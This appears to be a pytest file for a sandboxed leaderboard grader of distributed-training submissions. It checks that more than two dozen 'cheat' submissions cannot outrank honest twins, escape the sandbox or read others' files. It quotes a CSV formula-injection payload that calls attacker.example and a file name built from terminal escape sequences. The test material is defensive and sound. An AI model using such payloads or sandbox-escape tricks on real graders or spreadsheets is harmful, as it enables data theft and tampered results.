"""One leaderboard of every cheat in tests/cheats beside two honest strategies, in the OS sandbox: the
board completes, the honest rows are the simulator's own figures, no cheat ranks above its honest twin,
and nothing a cheat did outlives its run or reaches outside it. Then: failures are rows, the outputs,
and resuming (which ignores rows the grader did not write)."""

from __future__ import annotations

import ast
import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from dist_lib import simulate
from grader.runner import sandbox_problem
from grader.runner.isolation import FOLDER_PREFIX, _alive

ROOT = Path(__file__).resolve().parents[1]
SCENARIO = ("2xA100-80GB", "toy:layers=4", 8)
SUITE = f"""
name = "tiny"
[limits]
timeout_s = 8
address_space_GiB = 2
[[scenarios]]
name = "toy2"
cluster = "{SCENARIO[0]}"
workload = "{SCENARIO[1]}"
global_batch = {SCENARIO[2]}
[[scoring.components]]
metric = "mfu"
scale = 100
"""
CHEATS = sorted(p for p in (ROOT / "tests" / "cheats").glob("*.py") if not p.name.startswith("_"))
HONEST = ("honest", "honest_pipeline")
BOARD_PREFIX = "cheat-board-"  # the folder of one board's copies of the submissions


def twin(path: Path) -> str:
    """The TWIN a cheat file names, read without running it."""
    for node in ast.parse(path.read_text()).body:
        if isinstance(node, ast.Assign) and [t.id for t in node.targets if isinstance(t, ast.Name)] == ["TWIN"]:
            return node.value.value
    raise AssertionError(f"{path.name} names no TWIN")


def grader(*args, cwd=ROOT, env=None):
    return subprocess.run([sys.executable, "-m", "grader", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=300, env=env)


def _processes(needle: bytes, copies: Path) -> list[int]:
    """Processes whose command line holds `needle` and that this board started: in one of its sandboxes
    (their mounts include the board's folder), its bubblewrap (the folder is on its command line), or
    anything outside a sandbox, unless it is the bubblewrap of a board running beside this one."""
    found, here, ours = [], os.readlink("/proc/self/ns/mnt"), f"{copies}/".encode()
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            if needle in cmdline and (
                    ours in cmdline or b" " + ours in Path(f"/proc/{pid}/mountinfo").read_bytes()
                    or (os.readlink(f"/proc/{pid}/ns/mnt") == here and b"/" + BOARD_PREFIX.encode() not in cmdline)):
                found.append(int(pid))
        except OSError:  # it ended meanwhile
            pass
    return found


@pytest.fixture(scope="module")
def board():
    problem = sandbox_problem()
    if problem:
        pytest.skip(f"the OS sandbox is not usable here: {problem}")
    # copies in a folder the sandbox's user may read (as the submissions folder of a course would be)
    copies = Path(tempfile.mkdtemp(prefix=BOARD_PREFIX))
    copies.chmod(0o755)
    for name in ("cheats", "submissions"):
        shutil.copytree(ROOT / "tests" / name, copies / name, ignore=shutil.ignore_patterns("__pycache__"))
    # a run sees its own file and the _*.py helpers beside it: the pipeline cheats' twin goes beside them
    shutil.copy(copies / "submissions" / "honest_pipeline.py", copies / "cheats" / "_honest_pipeline.py")
    # a helper that is a symbolic link to a classmate, as a student's repository may hold (linked_helper)
    (copies / "cheats" / "_classmate.py").symlink_to(copies / "submissions" / "honest.py")
    # the grader keeps its private folders here, so that this board's sandboxes name this folder
    (copies / "tmp").mkdir(mode=0o755)
    before = {p: p.read_bytes() for p in copies.rglob("*") if p.is_file()}
    # the board where a course keeps it by default, in the project's traces/ (outside /tmp, which every
    # sandbox hides anyway), readable by the sandbox's user: the runs must not see it all the same
    try:
        tmp = Path(tempfile.mkdtemp(prefix=BOARD_PREFIX, dir=ROOT / "traces"))
    except OSError:  # a checkout this user may not write to
        tmp = Path(tempfile.mkdtemp(prefix=BOARD_PREFIX))
    tmp.chmod(0o755)
    (tmp / "suite.toml").write_text(SUITE)
    out = tmp / "out"
    proc = grader("leaderboard", str(copies / "cheats"), str(copies / "submissions"), "--suite",
                  str(tmp / "suite.toml"), "--jobs", "2", "--out", str(out), "--no-plots",
                  env=dict(os.environ, TMPDIR=str(copies / "tmp")))
    time.sleep(2.5)  # longer than the forging daemon waits before it writes
    yield proc, out, copies, before
    shutil.rmtree(copies, ignore_errors=True)
    shutil.rmtree(tmp, ignore_errors=True)


def _rows(out):
    data = json.loads((out / "leaderboard.json").read_text())
    return {r["strategy"]: r for r in data["rows"]}, data


def test_the_board_completes_with_a_row_per_submission(board):
    proc, out, copies, _ = board
    assert proc.returncode == 0, proc.stderr
    rows, data = _rows(out)
    expected = {p.stem for p in copies.rglob("*.py") if not p.name.startswith("_")}
    assert set(rows) == expected
    assert all(s["complete"] for s in data["submissions"])


def test_honest_rows_are_the_simulators_own_figures(board):
    rows, _ = _rows(board[1])
    for name in HONEST:
        direct = simulate(str(ROOT / "tests" / "submissions" / f"{name}.py"), *SCENARIO)
        row = rows[name]
        assert row["status"] == "ok", row["error"]
        assert (row["time_s"], row["memory_bytes"], row["mfu"]) == (direct.time_s, direct.memory_bytes, direct.mfu)


def test_no_cheat_ranks_above_its_honest_twin(board):
    rows, data = _rows(board[1])
    entries = {s["submission"]: s for s in data["submissions"]}
    assert len(CHEATS) >= 25
    for path in CHEATS:
        cheat, honest = entries[path.stem], entries[twin(path)]
        assert cheat["rank"] is None or (cheat["rank"] >= honest["rank"] and cheat["score"] <= honest["score"]), \
            (path.stem, rows[path.stem]["status"], rows[path.stem]["error"])


@pytest.mark.parametrize("cheat, status, words", [
    ("drop_recompute", "invalid", "malformed"),  # its program names a tensor it never made
    ("early_allreduce", "invalid", "handle"),  # reduces a gradient before the backward makes it
    ("enforce_off", "failed", "out of memory"),
    ("skip_layers", "failed", "was not returned by this model's ops"),
    ("fake_samples", "failed", "the gradient covers samples"),
    ("tied_grad_shrink", "failed", "gradients of different parameters"),
    ("summed_pieces", "failed", "TP pieces of a message are gathered, not summed"),
    ("skip_sp_gathers", "failed", "ran sequence-parallel over 2 TP ranks, so its backward needs the output gradient "
                                  "all-gathered in the TP group"),
    ("wrong_shape_result", "invalid", "does not match its header"),
    ("nested_brackets", "invalid", "unreadable result"),
    ("huge_result", "invalid", "unreadable result"),  # cut at the file-size limit, its own header then garbled
    ("flood_stdout", "failed", "File too large"),  # stdout cut at the file-size limit
    ("forged_compat", "invalid", "the worker wrote a --api result for a run of the native API"),
])
def test_a_cheat_fails_as_its_program_deserves(board, cheat, status, words):
    rows, _ = _rows(board[1])
    assert rows[cheat]["status"] == status, rows[cheat]["error"]
    assert words in rows[cheat]["error"]


@pytest.mark.parametrize("cheat", ["clock_rewind", "delete_events", "hide_memory", "zero_costs", "tiny_collectives",
                                   "one_param_update", "delete_allocations", "long_program", "kill_parent",
                                   "kill_siblings", "daemon_forger", "rewrite_siblings", "setsid_child",
                                   "write_outside", "fork_bomb", "patch_work_complete", "read_classmates",
                                   "linked_helper"])
def test_a_cheat_that_made_the_honest_decisions_gets_the_honest_grade(board, cheat):
    """What it patched or attempted in its own process changed nothing: its program is its twin's."""
    rows, _ = _rows(board[1])
    honest = rows[twin(ROOT / "tests" / "cheats" / f"{cheat}.py")]
    assert rows[cheat]["status"] == "ok", rows[cheat]["error"]
    assert (rows[cheat]["time_s"], rows[cheat]["memory_bytes"]) == (honest["time_s"], honest["memory_bytes"])


@pytest.mark.parametrize("cheat", ["parked_optimizer"])
def test_a_cheat_that_hides_bytes_in_flight_pays_its_twins_memory(board, cheat):
    """A tensor left unawaited in a message that has ended still counts: the peak is its twin's."""
    rows, _ = _rows(board[1])
    honest = rows[twin(ROOT / "tests" / "cheats" / f"{cheat}.py")]
    assert rows[cheat]["status"] == "ok", rows[cheat]["error"]
    assert rows[cheat]["memory_bytes"] == honest["memory_bytes"] and rows[cheat]["time_s"] > honest["time_s"]


@pytest.mark.parametrize("cheat", ["slow_kept_check", "copy_schedule"])
def test_a_cheat_that_does_extra_work_is_graded_on_it_within_the_limit(board, cheat):
    """slow_kept_check's 600 pieces of layer 0 once held the grader's end-of-step check for minutes past
    the suite's 8 s (the replay checks its deadline between ops only); copy_schedule's copies stopped the
    schedule `run` prints (tests/test_grader_cli.py). Both rows are graded: correct steps that pay for
    their extra updates or copies."""
    rows, _ = _rows(board[1])
    row, honest = rows[cheat], rows["honest"]
    assert row["status"] == "ok", row["error"]
    assert row["time_s"] > honest["time_s"] and row["memory_bytes"][1] == honest["memory_bytes"][1]


def test_a_cheat_that_hands_in_thousands_of_tp_slices_is_graded_within_the_limit(board):
    """wide_tp_slices' 20000 slices of 65536 once held the grader's end-of-step check for minutes past the
    suite's 8 s: now its row is graded, an incorrect step."""
    row = _rows(board[1])[0]["wide_tp_slices"]
    assert row["status"] == "incorrect", row["error"]
    assert row["problems"][0] == "layer 0: rank 0 handed in a weight that was never updated"
    assert row["problems"][-1] == f"... and {4 * 5001 - len(row['problems']) + 1} more"  # 5000 + 1 lines a layer


def test_nothing_escaped_the_sandbox(board):
    _, out, copies, before = board
    after = {p: p.read_bytes() for p in copies.rglob("*") if p.is_file()}
    changed = sorted(str(p) for p in set(after) | set(before) if after.get(p) != before.get(p))
    assert changed == []  # no sibling rewritten, no marker written beside a submission
    for path in (ROOT / "WRITTEN_OUTSIDE", Path("/var/tmp/WRITTEN_OUTSIDE")):
        assert not path.exists()
    keys = [json.loads(line)["key"] for line in (out / "results.jsonl").read_text().splitlines()]
    assert "forged" not in keys and len(keys) == len(set(keys))
    # sandboxed workers, their forks and their setsid children (polled: the kernel reaps a dead pid
    # namespace's processes asynchronously)
    for needle in (b"dist-sandbox-escaped-child", b"grader._worker\0/tmp/job.json\0"):
        end = time.monotonic() + 20
        while _processes(needle, copies) and time.monotonic() < end:
            time.sleep(0.2)
        assert _processes(needle, copies) == [], (needle, [Path(f"/proc/{p}/status").read_text()[:200]
                                                           for p in _processes(needle, copies)])
    assert [f for f in Path(tempfile.gettempdir()).glob(f"{FOLDER_PREFIX}*")
            if not _alive(int(f.name[len(FOLDER_PREFIX):].split("-")[0]))] == []
    assert list((copies / "tmp").iterdir()) == []  # the board's own private folders, all removed


def test_a_run_reads_nothing_but_its_own_files(board):
    """The cheat that reads its classmates beside it, the project's files and its honest submissions, the
    board's results, the system's account files and the users' folders found nothing in the sandbox (it
    ran its honest step: same figures as its twin, above); run without the sandbox, from the same
    folder while the same board lies in the project, it reads them all and leaks them in its error."""
    from grader.runner import Limits, run_isolated
    from grader.scenario import Scenario
    _, out, copies, _ = board
    rows, _ = _rows(out)
    assert rows["read_classmates"]["status"] == "ok", rows["read_classmates"]["error"]
    scenario = Scenario(cluster=SCENARIO[0], workload=SCENARIO[1], global_batch=SCENARIO[2])
    outcome = run_isolated(copies / "cheats" / "read_classmates.py", scenario, Limits(timeout_s=60), confine=False)
    assert outcome.status == "failed" and "READ_OUTSIDE" in outcome.message, outcome.message
    leaked = json.loads(outcome.message.split("READ_OUTSIDE", 1)[1].rsplit(" (at read_classmates.py", 1)[0])
    classmates = sorted(p.name for p in CHEATS if p.stem != "read_classmates")
    assert leaked["classmates"] == len(classmates)
    assert leaked["names_sha256"] == hashlib.sha256("\n".join(classmates).encode()).hexdigest()[:16]
    assert leaked["copied"] == (copies / "cheats" / leaked["first"]).read_text()[:60]
    assert str(ROOT / "tests" / "submissions" / "honest.py") in leaked["files"]
    if ROOT / "traces" in out.parents:
        assert str(out / "results.jsonl") in leaked["found"]
    if Path("/etc/passwd").is_file():
        assert "/etc/passwd" in leaked["files"]


def test_failures_are_rows_and_the_board_goes_on(board):
    rows, _ = _rows(board[1])
    assert rows["hang"]["status"] == "timeout"
    assert rows["crash"]["status"] == "crashed" and "code 3" in rows["crash"]["error"]
    assert rows["blowup"]["status"] == "failed" and "MemoryError" in rows["blowup"]["error"]
    assert rows["buggy"]["status"] == "failed" and "TensorError" in rows["buggy"]["error"]
    assert Path(rows["honest"]["trace"]).exists()


def test_csv_has_a_row_per_run_and_per_submission(board):
    with (board[1] / "leaderboard.csv").open() as fh:
        lines = list(csv.DictReader(fh))
    submissions = {line["submission"] for line in lines}
    assert len([line for line in lines if line["scenario"] == "ALL"]) == len(submissions)
    assert len([line for line in lines if line["scenario"] == "toy2"]) == len(submissions)
    summary = {line["submission"]: line["status"] for line in lines if line["scenario"] == "ALL"}
    # one scenario: a submission's ALL row is "ok" only when its run is
    assert summary["honest"] == "ok" and summary["crash"] == summary["buggy"] == "0 of 1 ok"


def test_a_formula_in_an_error_stays_text_in_the_csv(board):
    """csv_formula's exception class is named `=HYPERLINK(...)`: its cell starts with a quote, which a
    spreadsheet shows as text; the JSON keeps the error as the grader read it."""
    FORMULA = '=HYPERLINK("http://attacker.example/?row="&A2,"see details")'  # noqa: N806 - csv_formula's
    with (board[1] / "leaderboard.csv").open() as fh:
        cells = [line["error"] for line in csv.DictReader(fh) if line["submission"] == "csv_formula"]
    assert cells == [f"'{FORMULA}: the step failed", ""]  # its run, then its ALL row
    rows, _ = _rows(board[1])
    assert rows["csv_formula"]["status"] == "failed" and rows["csv_formula"]["error"] == f"{FORMULA}: the step failed"


def test_second_run_resumes_and_ignores_rows_it_did_not_write(board):
    _, out, copies, _ = board
    results = out / "results.jsonl"
    lines = results.read_text().splitlines()
    kept = [line for line in lines if '"honest"' not in line]  # as if interrupted before honest finished
    junk = ["[" * 200_000, json.dumps({"key": json.loads(lines[0])["key"], "status": 3}), "{}", "null"]
    results.write_text("\n".join(junk + kept) + "\n")
    proc = grader("leaderboard", str(copies / "cheats"), str(copies / "submissions"), "--suite",
                  str(out.parent / "suite.toml"), "--out", str(out), "--no-plots")
    assert proc.returncode == 0, proc.stderr
    assert f"resuming: {len(kept)} of {len(lines)}" in proc.stdout
    rows, _ = _rows(out)
    assert rows["honest"]["status"] == "ok"


def test_a_file_named_with_escape_sequences_prints_them_as_text(tmp_path):
    """A submission whose file name holds terminal escape sequences (erase the line, move the cursor up:
    enough to overwrite the rows above it) prints them as backslash escapes on the board, and the CSV
    shows them so too; the JSON escapes them itself."""
    if sandbox_problem():
        pytest.skip("the OS sandbox is not usable here")
    subs = tmp_path / "subs"
    subs.mkdir()
    name = "evil\x1b[2K\x1b[1A\u202eboard"
    shutil.copy(ROOT / "tests" / "submissions" / "honest.py", subs / f"{name}.py")
    (tmp_path / "suite.toml").write_text(SUITE)
    proc = grader("leaderboard", str(subs), "--suite", str(tmp_path / "suite.toml"), "--out", str(tmp_path / "out"),
                  "--no-plots", env=dict(os.environ, COLUMNS="200"))
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stdout and "\u202e" not in proc.stdout
    assert "evil\\x1b[2K\\x1b[1A\\u202eboard" in proc.stdout
    with (tmp_path / "out" / "leaderboard.csv").open() as fh:
        assert {line["submission"] for line in csv.DictReader(fh)} == {"evil\\x1b[2K\\x1b[1A\\u202eboard"}
    assert json.loads((tmp_path / "out" / "leaderboard.json").read_text())["rows"][0]["strategy"] == name
